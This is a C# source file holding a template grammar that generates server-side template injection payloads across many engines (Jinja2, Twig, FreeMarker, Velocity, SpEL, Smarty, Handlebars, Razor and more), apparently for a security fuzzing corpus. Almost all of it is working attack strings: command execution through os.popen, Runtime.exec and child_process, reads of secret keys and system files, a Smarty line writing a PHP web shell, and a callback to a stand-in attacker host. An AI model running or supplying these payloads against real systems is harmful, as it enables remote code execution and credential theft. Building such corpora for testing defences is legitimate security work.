namespace Weir.Http.Corpus.Attacks;

/// <summary>Expressions for template engines: arithmetic probes, walks through the object graph and execution, in the delimiters of each family.</summary>
internal static class Ssti
{
    public const string Text = """"
        §attack
        6× «sum»
        7× «curlies»
        5× «dollars»
        3× «percents»
        3× «freemarker»
        3× «velocity»
        2× «smarty»
        2× «thymeleaf»
        2× «razor»
        2× «nodeengines»
        2× «polyglot»
        2× «wrapped»
        «encoded»

        ¶ ---- arithmetic probes in all delimiters ----
        §sum
        5× {{«calcpart»}}
        4× ${«calcpart»}
        3× #{«calcpart»}
        3× <%= «calcpart» %>
        2× *{«calcpart»}
        2× @(«calcpart»)
        2× {«calcpart»}
        2× ${{«calcpart»}}
        2× {{= «calcpart»}}
        2× #set($x=«calcpart»)${x}
        2× [[${«calcpart»}]]
        {%«¦-» print(«calcpart») %}
        {% if «calcpart» %}«rand»{% endif %}
        {%«¦-» set x=«calcpart» «¦-»%}{{x}}
        [[«calcpart»]]
        [=«calcpart»]
        ~{«calcpart»}
        %{«calcpart»}
        @{«calcpart»}
        {{{«calcpart»}}}
        {@«calcpart»}
        {!«calcpart»!}
        {!!«calcpart»!!}
        {#«calcpart»}
        $«calcpart»
        %«calcpart»%
        ${«calcpart»
        {{«calcpart»
        «calcpart»}}
        ${={«calcpart»}}
        #{= «calcpart»}
        <#= «calcpart» #>
        <%= «calcpart»
        <?= «calcpart» ?>
        <? «calcpart» ?>
        @{«calcpart»}@
        =«calcpart»=
        $[[«calcpart»]]
        [(${«calcpart»})]
        (${«calcpart»})
        {{'«rand»'«calcpart»}}
        {php}echo «calcpart»;{/php}
        {math equation="«calcpart»"}
        {{[«calcpart»]|join}}
        <c:out value="${«calcpart»}"/>
        <%«sp»«calcpart»«sp»%>
        {% «calcpart» %}
        ««quote»«¦+»¦«word»»{{«calcpart»}}«¦«quote»»
        «word»«¦}}»«¦${¦{{»«calcpart»}«¦}»
        __${«calcpart»}__::.x
        "+{{«calcpart»}}+"
        §sp
        3×
        3× ␠
        §quote
        '
        "
        `
        §calcpart
        6× «$n:smallnum»*«$n»
        3× «#2-99999»«*¦*¦*¦+¦-¦/» «#2-99999»
        5× «#2-99999»*«#2-99999»
        2× «smallnum» * «smallnum»
        2× «smallnum»*'«smallnum»'
        '«smallnum»'*«smallnum»
        '«letter»'.upper()
        "«rand»".«toUpperCase()¦length()¦join("ab")¦reverse»
        '«rand»'«~¦+¦.»'«rand»'
        "«rand»"|«upper¦upcase¦length¦rev»
        «#10-999»*«#10-999»+«#1-9»
        («smallnum»+«smallnum»)*«smallnum»
        T(java.lang.Math).«random()¦abs(-«smallnum»)»
        «smallnum»*«smallnum»|«string¦safe»
        «smallnum»/0
        «smallnum»«>¦<¦==»«smallnum»?«smallnum»:«smallnum»
        §smallnum
        6× 7
        3× «#2-9»
        2× «#10-99»
        «#1000-99999»

        ¶ ---- double curly braces: Jinja2, Twig, Nunjucks, Handlebars, Pebble, Jinjava, Tornado, Go ----
        §curlies
        12× {{«sp»«jinja»«filters»«sp»}}
        3× {%«¦-» «jinjastatement» «¦-»%}
        5× {{«sp»«twig»«sp»}}
        2× {{«sp»«nunjucks»«sp»}}
        2× {{«sp»«pebble»«sp»}}
        2× {{«goexpr»}}
        «handlebars»
        {{«sp»«jinja»«sp»
        «word»{{«sp»«jinja»«sp»}}«word»
        {% import «pymodule» %}{{«pymodule».«popen('«shellcmd»').read()¦system('«shellcmd»')»}}
        §jinja
        4× «pyobj»«pyclass»
        3× «pyobj»«pyclass»«pysubs»
        3× «pyobj»«pyclass»«pysubs»«pyexec»
        4× «flaskobj»«pyglobals»«globaluse»
        2× config«¦.items()¦.from_object('os')¦['SECRET_KEY']¦.SECRET_KEY¦.«rand»¦|pprint»
        2× self«¦._TemplateReference__context«.cycler.__init__.__globals__.os.popen('«shellcmd»').read()¦.«namespace¦joiner».__init__.__globals__.os¦»¦.__dict__¦.__init__.__globals__.__builtins__»
        request«.application¦.environ¦.args.«letter»¦['application']¦|attr('application')¦.headers¦.cookies¦.form.get('«letter»')»«pyglobals?»
        «flaskobj»|attr(«pystr»)|attr(«pystr2»)«¦|attr("__getitem__")("«os¦__builtins__»")»«¦|attr("popen")("«shellcmd»")|attr("read")()»
        «g¦url_for¦get_flashed_messages¦lipsum».«pop¦__globals__»«['current_app'].config¦.current_app.config¦.pop.__globals__.__builtins__['__import__']('os').popen('«shellcmd»').read()¦.os.environ»
        [].__class__.__base__.__subclasses__()«pyexec?»
        settings.SECRET_KEY
        «handler.settings¦handler.application.settings¦messages.storages.0.signer.key¦debug¦request.user.password¦user.password¦forloop.parentloop»
        __import__('os').«popen('«shellcmd»').read()¦system('«shellcmd»')»
        («pystr»*«#1-9»)%()
        dict(«letter»=«num»)|join
        §flaskobj
        «config¦request¦self¦cycler¦joiner¦namespace¦lipsum¦url_for¦get_flashed_messages¦range¦dict¦g¦session¦x¦«letter»¦undefined»
        §pyglobals
        4× .__init__.__globals__
        2× .__class__.__init__.__globals__
        2× .__globals__
        ['__init__']['__globals__']
        ["__class__"]["__init__"]["__globals__"]
        |attr('__init__')|attr('__globals__')
        .application.__globals__
        .__init__.__builtins__
        ['\x5f\x5finit\x5f\x5f']['\x5f\x5fglobals\x5f\x5f']
        .\u005f\u005finit\u005f\u005f.__globals__
        .__call__.__globals__
        .__getitem__.__globals__
        ._load_form_data.__globals__
        .func_globals
        §globaluse
        4× .os.popen('«shellcmd»').read()
        3× ['os'].popen('«shellcmd»').read()
        2× .__builtins__.__import__('os').popen('«shellcmd»').read()
        2× ['__builtins__']['«eval¦exec¦open¦__import__»']('«os¦«unixfile»¦__import__("os").popen("«shellcmd»").read()»')«¦.read()¦.popen('«shellcmd»').read()»
        .__builtins__.open('«unixfile»').read()
        .linecache.os.popen("«shellcmd»").read()
        |attr('__getitem__')('«os¦__builtins__»')
        .get('os').«system¦popen»('«shellcmd»')
        .sys.modules.os.popen('«shellcmd»').read()
        .current_app.config
        .json.JSONEncoder.default.__globals__
        ["o"+"s"]["po"+"pen"]('«shellcmd»')["re"+"ad"]()
        §pystr
        «"__class__"¦'__class__'¦"\x5f\x5fclass\x5f\x5f"¦'\u005f\u005fclass\u005f\u005f'¦["_"*2,"class","_"*2]|join¦request.args.«letter»¦request.args.«word»¦"__ssalc__"[::-1]¦"__cla"+"ss__"¦'__cla''ss__'¦"%c%cclass%c%c"|format(95,95,95,95)¦"_""_class_""_"¦request["args"]["«letter»"]¦'X19jbGFzc19f'.decode('base64')¦[request.args.usc*2,request.args.class,request.args.usc*2]|join»
        §pystr2
        «"__init__"¦'__mro__'¦"__base__"¦'__subclasses__'¦"__globals__"¦"\x5f\x5finit\x5f\x5f"¦["_"*2,"base","_"*2]|join»
        §pyobj
        3× ''
        3× []
        2× ""
        2× ()
        2× {}
        2× «flaskobj»
        «0¦1¦True¦None¦'abc'¦"foo"¦().__class__¦type('')»
        §pyclass
        5× .__class__.«__mro__[«#1-3»]¦__base__¦__bases__[0]¦mro()[«#1-9»]¦__base__.__base__»
        3× .__class__.__«mro__¦bases__¦base__¦dict__¦name__¦module__»
        .__class__
        ['__class__']['__«mro__'][«#1-3»]¦base__']¦bases__'][0]»
        |attr("__class__")«|attr("__base__")¦|attr("__mro__")|last¦|attr("__bases__")|first»
        ["\x5f\x5fclass\x5f\x5f"]["\x5f\x5f«mro\x5f\x5f"][«#1-2»]¦base\x5f\x5f"]»
        .__doc__[«#0-99»]
        .__getattribute__('__class__').«__base__¦__mro__»
        §pysubs
        4× .__subclasses__()
        2× .__subclasses__()[«#0-500»]
        .__subclasses__()[«#30-500»:]
        ['__subclasses__']()
        |attr("__subclasses__")()
        ["__sub"+"classes__"]()
        .__subclasses__().index(«letter»)
        .__subclasses__().pop(«#1-500»)
        .__subclasses__().__getitem__(«#1-500»)
        .__subclasses__()|length
        §pyexec
        3× ('«shellcmd»',shell=True,stdout=-1).communicate()«¦[0]¦[0].strip()¦[0].decode()»
        3× [«#30-500»]('«shellcmd»',shell=True,stdout=-1).communicate()
        2× [40]('«unixfile»').read()
        2× [«#30-500»].__init__.__globals__['__builtins__']['«eval¦exec»']("__import__('os').popen('«shellcmd»').read()")
        .__init__.__globals__['«os¦sys».«¦modules['os'].»popen('«shellcmd»').read()
        .get_data(0, "«unixfile»")
        ()._module.__builtins__['__import__']('os').popen("«shellcmd»").read()
        [«#30-500»].__init__.__globals__.«linecache¦sys.modules['os']».popen('«shellcmd»').read()
        ("«unixfile»").write("«rand»")
        §filters
        12×
        |«safe¦upper¦join¦length¦string¦list¦pprint¦tojson¦first¦e¦escape¦urlencode»
        §jinjastatement
        3× for «$c:letter» in «pyobj».__class__.__base__.__subclasses__() %}{% if «$c».__name__ == '«catch_warnings¦Popen¦_wrap_close¦FileLoader»' %}{{ «$c».__init__.__globals__['__builtins__']«.eval("__import__('os').popen('«shellcmd»').read()")¦.open('«unixfile»').read()» }}{% endif %}{% endfor
        2× if «jinja» %}«word»{% endif
        2× set «$v:letter»=«jinja» %}{{«$v»}}{% set «letter»=«num»
        2× with «$v:letter» = «jinja» %}{{«$v».popen('«shellcmd»').read()}}{% endwith
        print(«jinja»)
        include '«unixfile»'
        include request.«args.«letter»¦headers.«letter»»
        debug
        load «log¦module» %}{% get_admin_log 10 as log %}{% for e in log %}{{e.user.«password¦get_username»}}{% endfor
        for «letter» in ["«error_reporting¦display_errors¦ob_start¦disable_functions»"«,"1"¦,"0"¦»]|«sort¦map¦filter»("«ini_set¦call_user_func¦ini_get»") %}{% endfor
        set «letter» = ["«shellcmd»"]|«map¦sort¦filter»("«phpfn»")|join %}{{«letter»}}{% set «letter»=1
        if «jinja» == "«letter»" %}{{1/0}}{% endif
        for «letter» in range(«#1-9»«#100000-9999999») %}«letter»{% endfor
        extends "«unixfile»"
        raw %}«jinja»{% endraw
        import os %}{{os.system("«shellcmd»")}}{% set x=1
        apply exec('«shellcmd»')
        module «pymodule»
        autoescape None %}{% raw «word»
        §pymodule
        «os¦subprocess¦commands»
        §twig
        4× _self«¦.env¦.env.«registerUndefinedFilterCallback("«phpfn»")}}{{_self.env.getFilter("«shellcmd»")¦setCache("ftp://«evilhost»:2121")}}{{_self.env.loadTemplate("«rand»")¦enableDebug()¦isDebug()¦getFilter("«shellcmd»")»¦.getTemplateName()»
        4× ['«shellcmd»'«¦,0¦,''¦,'«rand»'»]|«filter('«phpfn»')¦map('«phpfn»')|join¦sort('«phpfn»')«¦|join»¦reduce('«phpfn»')»
        2× {«num»:'«shellcmd»'}|map('«phpfn»')
        2× '«unixfile»'|file_excerpt(«#1-30»,«#1-30»)
        app.request.«server.all|join(',')¦query.filter(0,'«shellcmd»',1024,{'options':'«phpfn»'})¦files.get(1)»
        '«shellcmd»'|«filter('«phpfn»')¦«phpfn»»
        include("««unixfile»¦@word/x»")
        source('«unixfile»')
        dump(«app¦_context¦»)
        1/((['«shellcmd»'«¦,'0'»]|«sort¦map¦reduce¦filter»('«phpfn»')«|first¦|join¦|length») == '«num»')
        include('«word»:/'~(['«shellcmd»']|map('«phpfn»')|join))
        (['«shellcmd»']|map('«phpfn»')|join)~'«rand»'
        [«num»,«num»]|«sort¦reduce¦map¦filter»((a,b)=>«phpfn»('«shellcmd»'))
        ['ob_start','call_user_func']|sort('call_user_func')
        _context|keys|join(',')
        ["error_reporting","0"]|sort("ini_set")
        {"«shellcmd»":"«phpfn»"}|«map¦reduce»("call_user_func")
        "«rand»"|«escape("«rand»")¦replace({'«letter»':'«letter»'})|upper»
        attribute(«_self¦app», '«env¦request»')
        block('«rand»')|filter('«phpfn»')
        §phpfn
        «system¦exec¦passthru¦shell_exec¦phpinfo¦assert¦popen¦call_user_func¦file_get_contents»
        §nunjucks
        range.constructor("return «nodeexec»")()
        «cycler¦joiner¦''¦[]¦"«letter»"¦x».constructor.constructor("return «nodeexec»")()
        «{}¦this¦self¦$».constructor.constructor('«alert(1)¦return process¦return «nodeexec»»')()
        §nodeexec
        2× global.process.mainModule.require('child_process').execSync('«shellcmd»')«¦.toString()»
        global.process.mainModule.constructor._load('child_process').«exec¦execSync»('«shellcmd»')
        process.«env¦mainModule.require('fs').readFileSync('«unixfile»')¦version¦cwd()¦exit()»
        require('child_process').«execSync¦spawnSync»('«shellcmd»')«¦.stdout¦.toString('utf8')»
        §pebble
        2× variable.getClass().forName('java.lang.Runtime').getRuntime().exec('«shellcmd»')
        «''¦"a"¦1¦beans¦request».getClass()«¦.forName('java.lang.Runtime').«getMethods()[6].invoke(null).exec('«shellcmd»')¦getRuntime().exec('«shellcmd»')»»
        "«letter»".getClass().forName("javax.script.ScriptEngineManager").newInstance().getEngineByName("JavaScript").eval("«java.lang.Runtime.getRuntime().exec('«shellcmd»')¦new java.lang.String('xxx')»")
        request.getClass()
        (1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec('«shellcmd»')
        beans.get("«rand»")
        §goexpr
        2× .
        printf "%s" "«rand»"
        .System "«¦-c» «shellcmd»"
        html "«rand»"
        js "alert(1)"
        define "T1"}}«<script>alert(1)</script>¦«rand»»{{end}} {{template "T1"
        .«Password¦User.Password¦Secret¦Passwd¦DebugCmd "«shellcmd»"¦GetFile "«unixfile»"¦File "«unixfile»"¦Request.Header¦WriteFile "«rand»"»
        call .«word→case» "«shellcmd»"
        range $«letter», $«letter» := .}}{{$«letter»}}{{end
        §handlebars
        {{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return «nodeexec→json»;"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}
        {{#with "«letter»" as |«letter»|}}{{lookup «letter» "constructor"}}{{/with}}
        {{lookup (lookup this "constructor") "«name¦prototype»"}}
        {{#each «this¦constructor¦..»}}{{@key}}«¦={{this}}»{{/each}}
        {{«this¦../this¦@root¦@root.constructor¦constructor.name¦__proto__¦this.__proto__¦this.constructor.constructor»}}

        ¶ ---- ${ } and #{ }: EL, SpEL, Mako, Groovy, JSF, Ruby, Pug ----
        §dollars
        6× «eldelim»
        2× ${«mako»}
        <%«¦!» import os %>${os.popen('«shellcmd»').read()}
        <% import os; x=os.popen('«shellcmd»').read() %>${x}
        2× ${«groovy»}
        2× #{«rubyexpr»}
        2× #{«pug»}
        #set ($e="«letter»")${«spel»}
        §eldelim
        4× ${«spel»}
        3× #{«spel»}
        2× *{«spel»}
        2× ${«el»}
        2× #{«el»}
        %{«el»}
        §spel
        5× T(java.lang.Runtime).getRuntime().exec('«shellcmd»')
        2× T(java.lang.Runtime).getRuntime().exec("«shellcmd»").«text¦waitFor()¦inputStream»
        2× T(java.lang.System).«getenv()¦getenv('«rand→upper»')¦getProperty('«user.dir¦os.name¦java.version»')¦exit(«num»)»
        T(java.lang.Runtime).getRuntime().exec(T(java.lang.Character).toString(«#97-122»)«.concat(T(java.lang.Character).toString(«#97-122»))¦»)
        T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('«shellcmd»').getInputStream())
        new java.lang.ProcessBuilder(«{'«shellcmd»'}¦"«shellcmd»"¦new java.lang.String[]{'sh','-c','«shellcmd»'}»).start()
        new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('«shellcmd»').getInputStream()).next()
        T(java.lang.Class).forName('java.lang.Runtime')
        T(«java.lang.»Thread).sleep(«#1-30»000)
        T(java.nio.file.Files).«readAllLines¦lines»(T(java.nio.file.Paths).get('«unixfile»'))
        new String(T(java.nio.file.Files).readAllBytes(T(java.nio.file.Paths).get("«unixfile»")))
        T(java.net.InetAddress).getByName('«evilhost»')
        @environment.getProperty('«spring.datasource.password¦«word»»')
        T(org.springframework.util.StreamUtils).copy(T(java.lang.Runtime).getRuntime().exec('«shellcmd»').getInputStream(),T(org.springframework.web.context.request.RequestContextHolder).currentRequestAttributes().getResponse().getOutputStream())
        T(javax.script.ScriptEngineManager).newInstance().getEngineByName('«nashorn¦js»').eval('«shellcmd→json»')
        §el
        3× «''¦""¦"a"¦1¦request¦«word»».getClass().forName(«"java.lang.Runtime"¦'java.lang.Runtime'»)«.getMethod("getRuntime",null).invoke(null,null).exec("«shellcmd»")¦.getRuntime().exec('«shellcmd»')¦.getMethods()[6].invoke(null).exec("«shellcmd»")»
        2× «''¦""¦"a"¦request».class.forName('java.lang.Runtime')«.getRuntime().exec('«shellcmd»')¦.getDeclaredMethods()[15].invoke(''.getClass().forName('java.lang.Runtime').getDeclaredMethods()[7].invoke(null),'«shellcmd»')»
        2× «sessionScope¦requestScope¦applicationScope¦header¦cookie¦paramValues¦pageContext.request.getSession()¦pageContext.request.getHeaderNames()¦pageContext.servletContext¦initParam»«¦.toString()¦['«word»']¦.setAttribute("a","".getClass().forName("java.util.ArrayList"))»
        facesContext.getExternalContext().«getResponse().addHeader("«rand»","«rand»")¦setResponseHeader("«rand»","«rand»")¦getSession(true)»
        request.getAttribute("«letter»").«invoke(null)¦add("«letter»")»
        request.setAttribute("«letter»","".getClass().forName("java.lang.ProcessBuilder").getDeclaredConstructors()[0].newInstance("«shellcmd»".split(" ")).start())
        ''.class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('«java.lang.Runtime.getRuntime().exec("«shellcmd»")¦«calcpart»»')
        «''¦"a"».getClass()«¦.getName()¦.getSuperclass()¦.getClassLoader()¦.forName("java.lang.System").getMethod("getProperty","".getClass()).invoke(null,"os.name")»
        «class.getResource("«¦../»index.htm«¦l»").getContent()¦class.getClassLoader()¦product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('«unixfile»').toURL().openStream().readAllBytes()?join(" ")»
        §mako
        2× self.module.«cache.util.os¦runtime.util.os¦cache.compat.inspect.os¦filters.compat.inspect.linecache.os».«system("«shellcmd»")¦popen("«shellcmd»").read()»
        self.«template.module.cache.util.os.system("«shellcmd»")¦template.__init__.__globals__['os'].popen('«shellcmd»').read()¦attr._NSAttr__parent.module.cache.util.os.system("«shellcmd»")¦context.«word»»
        __import__("os").popen("«shellcmd»").read()
        open("«unixfile»").read()
        loop.__class__.__init__.__globals__
        capture.__globals__
        context.kwargs
        §groovy
        3× "«shellcmd»".execute()«¦.text¦.getText()»
        new java.lang.String("«rand»")
        new File("«unixfile»").«text¦eachLine{println it}»
        new groovy.lang.GroovyClassLoader().parseClass("@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec(\"«shellcmd»\")})def x")
        ['«sh¦/bin/bash»','-c','«shellcmd»'].execute().text
        java.lang.Runtime.getRuntime().exec("«shellcmd»")
        §rubyexpr
        2× system(«"«shellcmd»"¦'«shellcmd»'»)
        2× `«shellcmd»`
        %x(«shellcmd»)
        File.«open¦read¦readlines»('«unixfile»')«¦.read¦.join»
        IO.popen('«shellcmd»').readlines()
        exec("«shellcmd»")
        Dir.«entries('/')¦glob('/*')»
        require('open3')
        Kernel.«system¦exec¦spawn»("«shellcmd»")
        self«¦.class¦.methods¦.instance_variables¦.method(:handle_POST).to_proc»
        ENV«¦['«rand→upper»']¦.to_a»
        Rails.application.«secrets¦config.secret_key_base¦credentials»
        global_variables
        §pug
        2× «root.process.mainModule.require('child_process').spawnSync('«cat¦ls¦id»', ['«-la¦«unixfile»»']).stdout¦global.process.mainModule.constructor._load('child_process').exec('«shellcmd»')¦global.process.mainModule.require('child_process').execSync('«shellcmd»')»
        function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad("child_process").exec('«shellcmd»')}()
        «global¦this¦self».«process.env¦constructor.constructor("return «nodeexec→json»")()»
        JSON.stringify(«global¦process.env¦this»)

        ¶ ---- <% %>: ERB, EJS, ASP, JSP, Mako blocks ----
        §percents
        4× <%= «rubyexpr» %>
        2× <%= «nodeexec» %>
        <%- «nodeexec» %>
        <%= «File.open("«unixfile»").read¦IO.read('«unixfile»')¦`«shellcmd»`¦Dir.entries("/")¦system("«shellcmd»")» %>
        <% require 'open3' %><% @a,@b,@c,@d=Open3.popen3('«shellcmd»') %><%= @b.readline()%>
        <%= Runtime.getRuntime().exec("«shellcmd»") %>
        <% «Runtime.getRuntime().exec("«shellcmd»")¦out.println("«rand»")¦Response.Write("«rand»")¦Response.Write(«calcpart»)¦«word» = «calcpart»» «;¦»%>
        <%= CreateObject("Wscript.Shell").exec("«shellcmd»").StdOut.ReadAll() %>
        <%= «word» ? «calcpart» : 0 %>
        <%=«global.process.mainModule.require('child_process').execSync('«shellcmd»')¦perl code: `«shellcmd»`¦«phpcode»»%>
        <%! String x = "«rand»"; %><%= x %>
        - «`«shellcmd»`¦var x = root.process¦x = x.mainModule.require¦«calcpart»»
        §phpcode
        «phpfn»("«shellcmd»")
        phpinfo()

        ¶ ---- FreeMarker and Velocity ----
        §freemarker
        3× <#assign «$v:letter»«sp»=«sp»"freemarker.template.utility.Execute"?new()>«sp»${«sp»«$v»("«shellcmd»")«sp»}
        2× ${"freemarker.template.utility.Execute"?new()("«shellcmd»")}
        [#assign «$v:letter» = 'freemarker.template.utility.Execute'?new()]${«$v»('«shellcmd»')}
        <#assign «$v:letter»="freemarker.template.utility.ObjectConstructor"?new()>${«$v»("java.lang.ProcessBuilder","«shellcmd»").start()}
        <#assign «$v:letter»="freemarker.template.utility.JythonRuntime"?new()><@«$v»>import os;os.system("«shellcmd»")</@«$v»>
        ${"freemarker.template.utility.ObjectConstructor"?new()("java.io.File","«unixfile»")}
        <#assign cl=«word».class.«protectionDomain.classLoader¦getClassLoader()»><#assign owc=cl.loadClass("freemarker.template.ObjectWrapper")><#assign ec=cl.loadClass("freemarker.template.utility.Execute")>${owc.getField("DEFAULT_WRAPPER").get(null).newInstance(ec,null)("«shellcmd»")}
        ${«word».class.protectionDomain.codeSource.location.toURI().resolve('«unixfile»').toURL().openStream().readAllBytes()?join(" ")}
        <#if 1==1>«rand»</#if>
        <#include "«unixfile»">
        <#list .«data_model¦globals¦main»?keys as k>${k}</#list>
        ${.«version¦data_model¦main_template_name¦now»}
        #{«calcpart»;m«#1-9»}
        <#assign x=«calcpart»>${x}
        <#«--»${«calcpart»}-->
        ${"«rand»"?«upper_case¦length¦interpret¦eval¦api»}
        ${«word»?api.class.«protectionDomain¦getResource("/")»}
        §velocity
        2× #set(«sp»$«$v:word»«sp»=«sp»«"e"¦''¦""¦1»)«vnl»$«$v».getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("«shellcmd»")
        2× #set($str=$class.inspect("java.lang.String").type)«vnl»#set($chr=$class.inspect("java.lang.Character").type)«vnl»#set($ex=$class.inspect("java.lang.Runtime").type.getRuntime().exec("«shellcmd»"))«vnl»$ex.waitFor()
        $class.inspect("java.lang.«Runtime¦System¦ProcessBuilder»").type«.getRuntime().exec("«shellcmd»")«¦.waitFor()»¦»
        #set($«letter»=«calcpart»)«¦$»{«letter»}
        #set($«$v:letter»="")#set($rt=$«$v».class.forName("java.lang.Runtime"))#set($p=$rt.getRuntime().exec("«shellcmd»"))$p.inputStream
        $«request¦response¦application¦session¦context¦velocityCount».«getClass()¦class.classLoader¦getClass().forName('java.lang.Runtime')»
        #foreach($i in [1..«#9-99»])$out.read()#end
        #set($x='')#set($c=$x.class.forName('java.lang.ProcessBuilder').getConstructor($x.class).newInstance('«shellcmd»').start())
        #«include¦parse»("«unixfile»")
        #evaluate("«calcpart»")
        #if(«num»==«num»)«rand»#end
        §vnl
        2×
        ␤
        ␠

        ¶ ---- Smarty, Blade, Latte, Plates ----
        §smarty
        3× {«phpfn»('«shellcmd»')}
        2× {php}«phpfn»('«shellcmd»');{/php}
        2× {$smarty.«version¦template¦server.«rand→upper»¦template_object->smarty->disableSecurity()->display('string:{«phpfn»(\'«shellcmd»\')}')¦env.PATH¦const.«rand→upper»¦now¦current_dir»}
        {Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php «phpfn»($_GET['cmd']); ?>",self::clearConfig())}
        {self::getStreamVariable("file://«unixfile»")}
        {if «phpfn»('«shellcmd»')}{/if}
        {literal}«calcpart»{/literal}
        {fetch file="«unixfile»"}
        {include file="«unixfile»"}
        {math equation='("\163\171\163\164\145\155")("«shellcmd→slasho»")'}
        {"«shellcmd»"|«phpfn»}
        {assign var="«letter»" value="«shellcmd»"}{$«letter»|«phpfn»}
        {{ «phpfn»('«shellcmd»') }}
        {!! «phpfn»('«shellcmd»') !!}
        @php «phpfn»('«shellcmd»') @endphp
        {=«phpfn»('«shellcmd»')}
        {$«letter»=«calcpart»}
        {var $x = «phpfn»('«shellcmd»')}{$x}
        {function name='x(){};«phpfn»("«shellcmd»");function «rand»'}{/function}

        ¶ ---- Thymeleaf, Struts and JSF views ----
        §thymeleaf
        3× __${«spel»}__::«¦.x¦«rand»»
        2× [[${«spel»}]]
        [(${«spel»})]
        <«div¦a¦p¦span» th:«text¦utext¦inline¦href¦remove»="${«spel»}">«¦«word»</a>»
        ~{«word»::${«spel»}}
        *{T(org.thymeleaf.«rand»)}
        ::__${«spel»}__
        __$%7b«spel→url»%7d__::«.x¦»
        ${«#uris¦#strings¦#execInfo¦#ctx¦#vars¦#request»«¦.«rand»()»}
        %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('«shellcmd»'))}
        <h:outputText value="#{«el»}"/>

        ¶ ---- Razor, Liquid, DotLiquid ----
        §razor
        3× @(«calcpart»)
        2× @{«System.Diagnostics.Process.Start("cmd.exe","/c «shellcmd»");¦var x=«calcpart»;¦ // C# code¦System.IO.File.ReadAllText("«winfile→json»");»}
        @System.«Diagnostics.Process.Start("«cmd.exe","/c echo «rand» > C:/Windows/Tasks/«rand».txt¦«shellcmd»»")¦IO.File.ReadAllText("«unixfile»")¦Environment.GetEnvironmentVariables()¦DateTime.Now»
        @(«Model¦ViewBag¦Context¦Html».«GetType().Assembly¦ToString()¦Request.ServerVariables»)
        @Html.Raw(«"<script>alert(1)</script>"¦«calcpart»»)
        @inherits «System.»Object
        @using System.Diagnostics
        {{ '«letter»' | «append: '«letter»'¦upcase¦times: «num»¦plus: «num»» }}
        {{ site.«__dir__¦config¦password» }}
        {{ «num» | «times¦plus¦minus¦modulo»: «num» }}
        {% assign «letter» = «num» | times: «num» %}{{ «letter» }}
        {% include '«unixfile»' %}

        ¶ ---- engines of Node.js and others with their own marks ----
        §nodeengines
        2× {{= «nodeexec» }}
        <%= «elixir» %>
        {{ «oracle» }}
        ${«oracle»}
        <%= «oracle» %>
        {%«¦-» if «oracle» %}«rand»{% endif %}
        {{= global.process.mainModule.require('child_process').execSync('«shellcmd»') }}
        {@exec str='«shellcmd»'/}
        ${«nodeexec»}
        `${«nodeexec»}`
        ${require('child_process').execSync('«shellcmd»')}
        - var x = root.process.mainModule.require('child_process').«exec¦execSync»('«shellcmd»')
        != «nodeexec»
        = «nodeexec»
        <%«nodeexec»%>
        {{{ «nodeexec» }}}
        {{#exec}}«shellcmd»{{/exec}}
        {{constructor.constructor('«alert(1)¦return process.env»')()}}
        {{$on.constructor('«alert(1)¦return 1»')()}}
        {{toString.constructor.prototype.«rand»=«num»}}
        {«calcpart»|«rand»}
        {{_openBlock.constructor('«alert(1)¦return this.process»')()}}
        settings[view options][outputFunctionName]=x;«nodeexec»;s
        __proto__.outputFunctionName=x;«nodeexec»;x
        §elixir
        System.«shell("«shellcmd»")¦cmd("«catcmd»", ["«unixfile»"])¦halt()¦get_env()»«¦|> elem(0)»
        «File.read!("«unixfile»")¦:os.cmd('«shellcmd»')¦Code.eval_string("«calcpart»")»
        [«num», «num»][elem(System.shell("«shellcmd»"), «0¦1»)]
        §catcmd
        «cat¦head¦tail»
        §oracle
        1/(«truth»)
        [«num»][«truth»]
        («truth») ? «num» : "«rand»"
        "«rand»"+(«truth»)
        ''.join(«truth»)
        «truth» or 1/0
        («truth» and 'a') or 1/0
        getattr("", "«rand»"+(«truth»))
        File.read("«rand»"+(«truth»).to_s)
        cycler.__init__.__globals__.os.popen('«shellcmd»').read()
        §truth
        «num»==«num»
        __import__("os").popen("«shellcmd»").read()«¦ == "«rand»"»
        cycler.__init__.__globals__.os.popen("«shellcmd»")._proc.wait() == 0
        system("«shellcmd»") == 0
        `«shellcmd»`.length == «num»
        T(java.lang.Runtime).getRuntime().exec("«shellcmd»").waitFor()==0
        "«shellcmd»".execute().waitFor()==0
        require('child_process').spawnSync('«shellcmd»').status===0
        include("«rand»").length
        «calcpart»==«num»
        §polyglot
        2× ${{<%[%'"}}%\«¦.¦,»
        «$p:calcpart»}}${«$p»}#{«$p»}<%= «$p» %>{{«$p»
        {{«$c:calcpart»}}${«$c»}<%= «$c» %>${{«$c»}}#{«$c»}«¦*{«$c»}»«¦@(«$c»)»
        «{{¦${¦<%=¦#{¦{%¦@(¦*{¦[[»'"`«}}¦}¦%>¦)¦]]»«rand?»
        «{{¦${¦#{¦<%»«rand»«¦'"¦/*¦}}'"`¦}»
        {{1/0}}«¦${1/0}»«¦<%= 1/0 %>»
        }}«¦{{¦${{»«calcpart»«'}¦]]¦%>»
        «{#¦<#--¦##¦/*¦<%#» «rand» «#}¦-->¦*/¦%>»{{«calcpart»}}
        (1/0).zxy.zxy
        «''¦""¦[]».«rand».«rand»}}
        {{«word».«rand».«rand»()}}
        ${«rand».«rand».«rand»()}

        §wrapped
        2× «word» {{«jinja»}}
        {"«param»":"«core→json»"}
        «param»=«core»
        «core»@«word».com
        "«core»"
        «word»"+«core»+"
        <p>«core»</p>
        /«word»/«core»
        «word»}}«core»
        {% raw %}{% endraw %}«core»
        §core
        3× «sum»
        3× {{«jinja»}}
        2× ${«spel»}
        {{«twig»}}
        <%= «rubyexpr» %>
        «freemarker»
